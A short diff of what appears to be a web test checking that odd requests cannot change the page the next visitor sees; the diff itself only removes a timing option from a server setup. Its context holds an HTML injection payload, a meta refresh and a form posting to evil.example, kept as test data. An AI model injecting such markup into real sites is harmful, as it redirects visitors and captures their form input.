@@ -7,7 +7,7 @@ import { type Sent, visitor } from '../support/visit';
 
 /* Nobody changes what the next stranger sees of a provider by asking for the page in another way than browsers do. */
 
-const daybook = useServer({ vars: { TIMING: 'on' } });
+const daybook = useServer();
 const { newProvider } = peopleAt(daybook);
 
 const hostile = '<meta http-equiv="refresh" content="0;url=//evil.example"><form action="//evil.example">';
